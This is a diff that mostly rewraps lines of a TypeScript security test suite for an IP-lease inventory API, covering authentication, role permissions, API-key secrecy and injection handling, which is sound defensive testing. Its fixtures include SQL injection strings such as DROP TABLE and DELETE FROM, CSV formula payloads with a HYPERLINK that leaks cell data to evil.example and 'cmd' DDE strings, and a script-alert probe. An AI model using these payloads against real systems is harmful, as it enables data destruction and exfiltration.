@@ -47,7 +47,15 @@ const ALLOWED: Record<Exclude<Permission, 'public'>, Role[]> = {
 };
 
 /** Public without a key (API.md, Auth; the /reports page itself is public, its data is not). */
-const PUBLIC_GETS = new Set(['/health', '/health/ready', '/metrics', '/docs', '/docs-json', '/geofeed.csv', '/reports']);
+const PUBLIC_GETS = new Set([
+  '/health',
+  '/health/ready',
+  '/metrics',
+  '/docs',
+  '/docs-json',
+  '/geofeed.csv',
+  '/reports',
+]);
 const INVENTORY = /^\/api\/v1\/(lessors|providers|regions|leases|allocations|lookup)(\/|$)/;
 
 function classify(method: string, path: string): Permission | undefined {
@@ -147,7 +155,10 @@ describe('security', () => {
   }
 
   /** Runs `request` and reports when it is a write that changed a table. */
-  async function unchanged(op: Operation, request: () => Promise<RawResponse>): Promise<{ res: RawResponse; changed: string[] }> {
+  async function unchanged(
+    op: Operation,
+    request: () => Promise<RawResponse>,
+  ): Promise<{ res: RawResponse; changed: string[] }> {
     const before = WRITE_METHODS.has(op.method) ? await snapshotTables(t.pool, tables) : undefined;
     const res = await request();
     const changed = before ? diffSnapshots(before, await snapshotTables(t.pool, tables)) : [];
@@ -167,20 +178,27 @@ describe('security', () => {
     it('documents bearer auth exactly on the routes that need a key', () => {
       const mismatched = ops
         .filter((op) => (classify(op.method, op.path) === 'public') === op.declaresAuth)
-        .map((op) => `${op.label}: ${op.declaresAuth ? 'declares bearer auth but is public' : 'needs a key but declares no security'}`);
+        .map(
+          (op) =>
+            `${op.label}: ${op.declaresAuth ? 'declares bearer auth but is public' : 'needs a key but declares no security'}`,
+        );
       expect(mismatched).toEqual([]);
     });
 
     it('covers every permission class with at least one route', () => {
       const classes = new Set(ops.map((op) => classify(op.method, op.path)));
-      for (const permission of ['read-inventory', 'write-inventory', 'read-audit', 'api-keys'] as const) expect(classes).toContain(permission);
+      for (const permission of ['read-inventory', 'write-inventory', 'read-audit', 'api-keys'] as const)
+        expect(classes).toContain(permission);
     });
   });
 
   describe('authentication', () => {
     it('serves the public routes without a key', async () => {
       const failures: string[] = [];
-      const paths = new Set([...PUBLIC_GETS, ...ops.filter((op) => classify(op.method, op.path) === 'public').map((op) => op.path)]);
+      const paths = new Set([
+        ...PUBLIC_GETS,
+        ...ops.filter((op) => classify(op.method, op.path) === 'public').map((op) => op.path),
+      ]);
       for (const path of paths) {
         const res = await rawRequest(t.baseUrl, { method: 'GET', path });
         if (res.status === 401 || res.status === 403 || res.status >= 500) failures.push(`GET ${path}: ${res.status}`);
@@ -227,21 +245,24 @@ describe('security', () => {
       ['non-ASCII bytes', 'Bearer \u00e9\u00ff\u00e0'],
     ];
 
-    it.each(garbage)('refuses %s on every protected operation: 401, nothing written, token not echoed', async (_name, authorization) => {
-      const failures: string[] = [];
-      const token = authorization.replace(/^\S+\s*/, '');
-      for (const op of protectedOps()) {
-        const { res, changed } = await unchanged(op, () => call(op, { Authorization: authorization }));
-        try {
-          expectProblem(res, 401, 'UNAUTHENTICATED', op.label);
-        } catch (e) {
-          failures.push((e as Error).message);
+    it.each(garbage)(
+      'refuses %s on every protected operation: 401, nothing written, token not echoed',
+      async (_name, authorization) => {
+        const failures: string[] = [];
+        const token = authorization.replace(/^\S+\s*/, '');
+        for (const op of protectedOps()) {
+          const { res, changed } = await unchanged(op, () => call(op, { Authorization: authorization }));
+          try {
+            expectProblem(res, 401, 'UNAUTHENTICATED', op.label);
+          } catch (e) {
+            failures.push((e as Error).message);
+          }
+          if (changed.length) failures.push(`${op.label}: changed ${changed.join('; ')}`);
+          if (token.length >= 8 && res.text.includes(token)) failures.push(`${op.label}: echoes the token`);
         }
-        if (changed.length) failures.push(`${op.label}: changed ${changed.join('; ')}`);
-        if (token.length >= 8 && res.text.includes(token)) failures.push(`${op.label}: echoes the token`);
-      }
-      expect(failures).toEqual([]);
-    });
+        expect(failures).toEqual([]);
+      },
+    );
 
     it('does not take a key from the query string or from other headers', async () => {
       const failures: string[] = [];
@@ -255,7 +276,8 @@ describe('security', () => {
           ['Cookie', path, { Cookie: `token=${ADMIN_KEY}` }],
         ] as [string, string, Record<string, string>][]) {
           const res = await rawRequest(t.baseUrl, { method: op.method.toUpperCase(), path: p, headers, body });
-          if (res.status !== 401 || res.body?.code !== 'UNAUTHENTICATED') failures.push(`${op.label} with ${variant}: ${res.status}`);
+          if (res.status !== 401 || res.body?.code !== 'UNAUTHENTICATED')
+            failures.push(`${op.label} with ${variant}: ${res.status}`);
         }
       }
       expect(failures).toEqual([]);
@@ -264,9 +286,16 @@ describe('security', () => {
     it('refuses a revoked key on every protected operation (revoked in SQL, and revoked through the API)', async () => {
       // Revoked behind the API's back.
       const sqlKey = generateApiKey();
-      await t.pool.query(`INSERT INTO api_keys (name, role, key_hash, key_prefix, revoked_at) VALUES ('revoked-in-sql', 'admin', $1, $2, now())`, [hashApiKey(sqlKey), displayPrefix(sqlKey)]);
+      await t.pool.query(
+        `INSERT INTO api_keys (name, role, key_hash, key_prefix, revoked_at) VALUES ('revoked-in-sql', 'admin', $1, $2, now())`,
+        [hashApiKey(sqlKey), displayPrefix(sqlKey)],
+      );
       // Revoked through the API: it works until the moment it is revoked.
-      const created = await t.http.post('/api/v1/api-keys').set(bearer()).send({ name: 'revoked-by-api', role: 'admin' }).expect(201);
+      const created = await t.http
+        .post('/api/v1/api-keys')
+        .set(bearer())
+        .send({ name: 'revoked-by-api', role: 'admin' })
+        .expect(201);
       const apiKey = created.body.key as string;
       await t.http.get('/api/v1/lessors').set(bearer(apiKey)).expect(200);
       await t.http.delete(`/api/v1/api-keys/${created.body.id}`).set(bearer()).expect(204);
@@ -304,10 +333,16 @@ describe('security', () => {
           if (violation) failures.push(`${role} ${op.label}: ${violation}`);
           if (allowed) {
             allowedCount++;
-            if (res.status === 401 || res.status === 403) failures.push(`${role} ${op.label}: allowed by the table, answered ${res.status} ${res.text.slice(0, 200)}`);
+            if (res.status === 401 || res.status === 403)
+              failures.push(
+                `${role} ${op.label}: allowed by the table, answered ${res.status} ${res.text.slice(0, 200)}`,
+              );
           } else {
             forbiddenCount++;
-            if (res.status !== 403 || res.body?.code !== 'FORBIDDEN') failures.push(`${role} ${op.label}: forbidden by the table, answered ${res.status} ${res.text.slice(0, 200)}`);
+            if (res.status !== 403 || res.body?.code !== 'FORBIDDEN')
+              failures.push(
+                `${role} ${op.label}: forbidden by the table, answered ${res.status} ${res.text.slice(0, 200)}`,
+              );
             if (changed.length) failures.push(`${role} ${op.label}: refused but changed ${changed.join('; ')}`);
           }
         }
@@ -322,11 +357,18 @@ describe('security', () => {
       // A viewer sending a perfectly valid lessor: had the guard let it through, a row would exist.
       const viewer = keys.get('viewer') as string;
       const before = await snapshotTables(t.pool, tables);
-      const res = await t.http.post('/api/v1/lessors').set(bearer(viewer)).send({ name: `Viewer-made ${randomUUID()}`, rir: 'RIPE' });
+      const res = await t.http
+        .post('/api/v1/lessors')
+        .set(bearer(viewer))
+        .send({ name: `Viewer-made ${randomUUID()}`, rir: 'RIPE' });
       expectProblem(res as unknown as AnyResponse, 403, 'FORBIDDEN', 'viewer POST /api/v1/lessors');
       expect(diffSnapshots(before, await snapshotTables(t.pool, tables))).toEqual([]);
       // The same body is accepted from an engineer: the refusal above was the role, not the body.
-      await t.http.post('/api/v1/lessors').set(bearer(keys.get('engineer') as string)).send({ name: `Engineer-made ${randomUUID()}`, rir: 'RIPE' }).expect(201);
+      await t.http
+        .post('/api/v1/lessors')
+        .set(bearer(keys.get('engineer') as string))
+        .send({ name: `Engineer-made ${randomUUID()}`, rir: 'RIPE' })
+        .expect(201);
     });
   });
 
@@ -334,10 +376,10 @@ describe('security', () => {
     const STRINGS = [
       "'; DROP TABLE leases;--",
       "' OR '1'='1",
-      'Robert\'); DELETE FROM lessors;--',
+      "Robert'); DELETE FROM lessors;--",
       '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
       "+cmd|' /C calc'!A0",
-      '-2+3+cmd|\' /C calc\'!A0',
+      "-2+3+cmd|' /C calc'!A0",
       '@SUM(1)',
       '\t=1+1',
       '<script>alert(1)</script>',
@@ -348,18 +390,49 @@ describe('security', () => {
 
     it.each(STRINGS)('stores %j verbatim (lessor, provider, region, lease, allocation, audit)', async (s) => {
       const n = randomUUID().slice(0, 8);
-      const lessor = await t.http.post('/api/v1/lessors').set(bearer()).send({ name: s, rir: 'RIPE', notes: s }).expect(201);
+      const lessor = await t.http
+        .post('/api/v1/lessors')
+        .set(bearer())
+        .send({ name: s, rir: 'RIPE', notes: s })
+        .expect(201);
       expect(lessor.headers['content-type']).toMatch(/^application\/json/);
       expect(lessor.body).toMatchObject({ name: s, notes: s });
-      const provider = await t.http.post('/api/v1/providers').set(bearer()).send({ code: `inj-${n}`, name: s, notes: s }).expect(201);
-      const region = await t.http.post('/api/v1/regions').set(bearer()).send({ code: `inj-${n}`, name: s, countryCode: 'IE' }).expect(201);
+      const provider = await t.http
+        .post('/api/v1/providers')
+        .set(bearer())
+        .send({ code: `inj-${n}`, name: s, notes: s })
+        .expect(201);
+      const region = await t.http
+        .post('/api/v1/regions')
+        .set(bearer())
+        .send({ code: `inj-${n}`, name: s, countryCode: 'IE' })
+        .expect(201);
       const block = Number.parseInt(n.slice(0, 4), 16) % 256;
       const lease = await t.http
         .post('/api/v1/leases')
         .set(bearer())
-        .send({ prefix: `46.${block}.${Number.parseInt(n.slice(4, 6), 16)}.0/24`, lessorId: lessor.body.id, startDate: '2025-01-01', pricePerIpMonthly: '0.5000', currency: 'USD', notes: s, contractRef: s, tags: ['injection'] });
+        .send({
+          prefix: `46.${block}.${Number.parseInt(n.slice(4, 6), 16)}.0/24`,
+          lessorId: lessor.body.id,
+          startDate: '2025-01-01',
+          pricePerIpMonthly: '0.5000',
+          currency: 'USD',
+          notes: s,
+          contractRef: s,
+          tags: ['injection'],
+        });
       expect(lease.status).toBe(201);
-      const allocation = await t.http.post('/api/v1/allocations').set(bearer()).send({ prefixLength: 28, leaseId: lease.body.id, regionId: region.body.id, providerId: provider.body.id, description: s }).expect(201);
+      const allocation = await t.http
+        .post('/api/v1/allocations')
+        .set(bearer())
+        .send({
+          prefixLength: 28,
+          leaseId: lease.body.id,
+          regionId: region.body.id,
+          providerId: provider.body.id,
+          description: s,
+        })
+        .expect(201);
 
       // Read back through GET by id: byte for byte.
       const reads: [string, Record<string, unknown>][] = [
@@ -378,25 +451,43 @@ describe('security', () => {
       // Filters take them literally too (no LIKE wildcards, no SQL).
       const byName = await t.http.get('/api/v1/lessors').query({ q: s, limit: 500 }).set(bearer()).expect(200);
       expect(byName.body.items.map((l: { id: string }) => l.id)).toContain(lessor.body.id);
-      expect(byName.body.items.filter((l: { name: string }) => !l.name.toLowerCase().includes(s.toLowerCase()))).toEqual([]);
+      expect(
+        byName.body.items.filter((l: { name: string }) => !l.name.toLowerCase().includes(s.toLowerCase())),
+      ).toEqual([]);
       // Tags are slugs: the same text is refused there (400), not stored mangled.
       const tagged = await t.http.get('/api/v1/leases').query({ tag: s }).set(bearer());
       expect(tagged.status).toBe(400);
       // The audit trail keeps the same text.
-      const audit = await t.http.get('/api/v1/audit-events').query({ entityType: 'lessor', entityId: lessor.body.id }).set(bearer()).expect(200);
+      const audit = await t.http
+        .get('/api/v1/audit-events')
+        .query({ entityType: 'lessor', entityId: lessor.body.id })
+        .set(bearer())
+        .expect(200);
       expect(audit.body.items[0].after).toMatchObject({ name: s, notes: s });
       // And the tables are all still there.
       expect(Number((await t.pool.query('SELECT count(*) FROM leases')).rows[0].count)).toBeGreaterThan(0);
     });
 
     it('treats % and _ in the lessor name filter as literal characters', async () => {
-      const pct = await t.http.post('/api/v1/lessors').set(bearer()).send({ name: `100% Uptime ${randomUUID()}`, rir: 'ARIN' }).expect(201);
-      const und = await t.http.post('/api/v1/lessors').set(bearer()).send({ name: `Under_score ${randomUUID()}`, rir: 'ARIN' }).expect(201);
+      const pct = await t.http
+        .post('/api/v1/lessors')
+        .set(bearer())
+        .send({ name: `100% Uptime ${randomUUID()}`, rir: 'ARIN' })
+        .expect(201);
+      const und = await t.http
+        .post('/api/v1/lessors')
+        .set(bearer())
+        .send({ name: `Under_score ${randomUUID()}`, rir: 'ARIN' })
+        .expect(201);
       const all = async (q: string) => {
         const names: string[] = [];
         let cursor: string | null = null;
         do {
-          const res: { body: { items: { name: string }[]; nextCursor: string | null }; text: string } = await t.http.get('/api/v1/lessors').query({ q, limit: 500, ...(cursor ? { cursor } : {}) }).set(bearer()).expect(200);
+          const res: { body: { items: { name: string }[]; nextCursor: string | null }; text: string } = await t.http
+            .get('/api/v1/lessors')
+            .query({ q, limit: 500, ...(cursor ? { cursor } : {}) })
+            .set(bearer())
+            .expect(200);
           names.push(...res.body.items.map((l: { name: string }) => l.name));
           cursor = res.body.nextCursor;
         } while (cursor);
@@ -413,11 +504,33 @@ describe('security', () => {
     it('neutralises formula cells in report CSV while the JSON keeps the text verbatim', async () => {
       const reportOp = ops.find((op) => op.path === '/api/v1/reports/monthly-cost');
       expect(reportOp).toBeDefined();
-      const lessor = await t.http.post('/api/v1/lessors').set(bearer()).send({ name: `=HYPERLINK("http://evil.example","${randomUUID()}")`, rir: 'RIPE' }).expect(201);
-      await t.http.post('/api/v1/leases').set(bearer()).send({ prefix: '47.1.2.0/24', lessorId: lessor.body.id, startDate: '2025-01-01', pricePerIpMonthly: '1.0000', currency: 'USD' }).expect(201);
-      const json = await t.http.get('/api/v1/reports/monthly-cost').query({ month: '2025-06', groupBy: 'lessor' }).set(bearer()).expect(200);
+      const lessor = await t.http
+        .post('/api/v1/lessors')
+        .set(bearer())
+        .send({ name: `=HYPERLINK("http://evil.example","${randomUUID()}")`, rir: 'RIPE' })
+        .expect(201);
+      await t.http
+        .post('/api/v1/leases')
+        .set(bearer())
+        .send({
+          prefix: '47.1.2.0/24',
+          lessorId: lessor.body.id,
+          startDate: '2025-01-01',
+          pricePerIpMonthly: '1.0000',
+          currency: 'USD',
+        })
+        .expect(201);
+      const json = await t.http
+        .get('/api/v1/reports/monthly-cost')
+        .query({ month: '2025-06', groupBy: 'lessor' })
+        .set(bearer())
+        .expect(200);
       expect(json.body.rows.map((r: { label: string }) => r.label)).toContain(lessor.body.name);
-      const csv = await t.http.get('/api/v1/reports/monthly-cost').query({ month: '2025-06', groupBy: 'lessor', format: 'csv' }).set(bearer()).expect(200);
+      const csv = await t.http
+        .get('/api/v1/reports/monthly-cost')
+        .query({ month: '2025-06', groupBy: 'lessor', format: 'csv' })
+        .set(bearer())
+        .expect(200);
       expect(csv.headers['content-type']).toMatch(/^text\/csv/);
       const cells = parseCsv(csv.text).flat();
       expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d+(\.\d+)?$)/.test(c))).toEqual([]);
@@ -427,30 +540,64 @@ describe('security', () => {
 
   describe('API keys are never shown again', () => {
     it('keeps the secret and its hash out of every read after creation', async () => {
-      const created = await t.http.post('/api/v1/api-keys').set(bearer()).send({ name: 'secret-keeper', role: 'engineer' }).expect(201);
+      const created = await t.http
+        .post('/api/v1/api-keys')
+        .set(bearer())
+        .send({ name: 'secret-keeper', role: 'engineer' })
+        .expect(201);
       const key = created.body.key as string;
       expect(key).toMatch(/^ipl_/);
       const hash = hashApiKey(key);
-      const secrets = [key, hash.toString('hex'), hash.toString('base64'), hash.toString('base64url'), key.slice(displayPrefix(key).length)];
+      const secrets = [
+        key,
+        hash.toString('hex'),
+        hash.toString('base64'),
+        hash.toString('base64url'),
+        key.slice(displayPrefix(key).length),
+      ];
       await t.http.get('/api/v1/lessors').set(bearer(key)).expect(200);
 
       const reads: string[] = [];
       for (let cursor: string | null = null, first = true; first || cursor; first = false) {
-        const res = await t.http.get('/api/v1/api-keys').query({ limit: 500, ...(cursor ? { cursor } : {}) }).set(bearer()).expect(200);
+        const res = await t.http
+          .get('/api/v1/api-keys')
+          .query({ limit: 500, ...(cursor ? { cursor } : {}) })
+          .set(bearer())
+          .expect(200);
         expect(res.body.items.every((k: Record<string, unknown>) => !('key' in k) && !('keyHash' in k))).toBe(true);
         reads.push(res.text);
         cursor = res.body.nextCursor as string | null;
       }
       reads.push((await t.http.get(`/api/v1/api-keys/${created.body.id}`).set(bearer()).expect(200)).text);
-      reads.push((await t.http.get('/api/v1/audit-events').query({ entityType: 'api_key', limit: 500 }).set(bearer()).expect(200)).text);
-      reads.push((await t.http.get('/api/v1/audit-events').query({ entityId: created.body.id }).set(bearer()).expect(200)).text);
+      reads.push(
+        (
+          await t.http
+            .get('/api/v1/audit-events')
+            .query({ entityType: 'api_key', limit: 500 })
+            .set(bearer())
+            .expect(200)
+        ).text,
+      );
+      reads.push(
+        (await t.http.get('/api/v1/audit-events').query({ entityId: created.body.id }).set(bearer()).expect(200)).text,
+      );
       // Errors caused by the key do not show it either.
       reads.push((await t.http.get('/api/v1/api-keys').set(bearer(key)).expect(403)).text);
       reads.push((await t.http.get('/api/v1/lessors/not-a-uuid').set(bearer(key)).expect(400)).text);
       // A replay of the creating request omits it.
       const idem = { 'Idempotency-Key': randomUUID() };
-      const first = await t.http.post('/api/v1/api-keys').set(bearer()).set(idem).send({ name: 'replayed', role: 'viewer' }).expect(201);
-      const replay = await t.http.post('/api/v1/api-keys').set(bearer()).set(idem).send({ name: 'replayed', role: 'viewer' }).expect(201);
+      const first = await t.http
+        .post('/api/v1/api-keys')
+        .set(bearer())
+        .set(idem)
+        .send({ name: 'replayed', role: 'viewer' })
+        .expect(201);
+      const replay = await t.http
+        .post('/api/v1/api-keys')
+        .set(bearer())
+        .set(idem)
+        .send({ name: 'replayed', role: 'viewer' })
+        .expect(201);
       expect(replay.headers['idempotent-replayed']).toBe('true');
       expect(replay.text).not.toContain(first.body.key);
 
@@ -459,7 +606,9 @@ describe('security', () => {
       const dump = await t.pool.query(`SELECT string_agg(to_jsonb(x)::text, '') AS t FROM (SELECT * FROM api_keys) x`);
       expect(dump.rows[0].t).not.toContain(key);
       for (const table of ['audit_events', 'idempotency_keys'].filter((x) => tables.includes(x))) {
-        const rows = await t.pool.query(`SELECT coalesce(string_agg(to_jsonb(x)::text, ''), '') AS t FROM "${table}" x`);
+        const rows = await t.pool.query(
+          `SELECT coalesce(string_agg(to_jsonb(x)::text, ''), '') AS t FROM "${table}" x`,
+        );
         expect(rows.rows[0].t).not.toContain(key);
         expect(rows.rows[0].t).not.toContain(first.body.key);
       }
@@ -490,7 +639,11 @@ describe('security', () => {
         requestIds.push(id);
         return { Authorization: `Bearer ${key}`, 'X-Request-Id': id };
       };
-      const created = await logged.http.post('/api/v1/api-keys').set(as(ADMIN_KEY)).send({ name: 'log-test', role: 'engineer' }).expect(201);
+      const created = await logged.http
+        .post('/api/v1/api-keys')
+        .set(as(ADMIN_KEY))
+        .send({ name: 'log-test', role: 'engineer' })
+        .expect(201);
       const key = created.body.key as string;
       const unknown = generateApiKey();
       const viewer = await logged.keyFor('viewer');
@@ -499,12 +652,22 @@ describe('security', () => {
       await logged.http.post('/api/v1/lessors').set(as(key)).send({ name: 'Logged Ltd', rir: 'RIPE' }).expect(201);
       await logged.http.post('/api/v1/lessors').set(as(key)).send({ name: 'Logged Ltd', rir: 'RIPE' }).expect(409);
       await logged.http.post('/api/v1/lessors').set(as(key)).send({ name: 42 }).expect(400);
-      await logged.http.post('/api/v1/lessors').set(as(key)).set('Content-Type', 'application/json').send('{"broken').expect(400);
+      await logged.http
+        .post('/api/v1/lessors')
+        .set(as(key))
+        .set('Content-Type', 'application/json')
+        .send('{"broken')
+        .expect(400);
       await logged.http.get('/api/v1/api-keys').set(as(key)).expect(403);
       await logged.http.get('/api/v1/api-keys').set(as(viewer)).expect(403);
       await logged.http.get('/api/v1/lessors').set(as(unknown)).expect(401);
       await logged.http.get(`/api/v1/lessors/${NIL_UUID}`).set(as(key)).expect(404);
-      await logged.http.post('/api/v1/lessors').set(as(key)).set('Idempotency-Key', randomUUID()).send({ name: 'Idem Ltd', rir: 'RIPE' }).expect(201);
+      await logged.http
+        .post('/api/v1/lessors')
+        .set(as(key))
+        .set('Idempotency-Key', randomUUID())
+        .send({ name: 'Idem Ltd', rir: 'RIPE' })
+        .expect(201);
       await logged.http.delete(`/api/v1/api-keys/${created.body.id}`).set(as(ADMIN_KEY)).expect(204);
       await logged.http.get('/api/v1/lessors').set(as(key)).expect(401);
       await new Promise((resolve) => setImmediate(resolve));
@@ -517,8 +680,17 @@ describe('security', () => {
       const secrets = [ADMIN_KEY, key, unknown, viewer];
       for (const secret of secrets) {
         const hash = hashApiKey(secret);
-        for (const form of [secret, secret.slice(displayPrefix(secret).length), hash.toString('hex'), hash.toString('base64'), createHash('sha256').update(secret).digest('base64url')]) {
-          expect({ secret: `${secret.slice(0, 8)}…`, found: text.includes(form) }).toEqual({ secret: `${secret.slice(0, 8)}…`, found: false });
+        for (const form of [
+          secret,
+          secret.slice(displayPrefix(secret).length),
+          hash.toString('hex'),
+          hash.toString('base64'),
+          createHash('sha256').update(secret).digest('base64url'),
+        ]) {
+          expect({ secret: `${secret.slice(0, 8)}…`, found: text.includes(form) }).toEqual({
+            secret: `${secret.slice(0, 8)}…`,
+            found: false,
+          });
         }
       }
     });
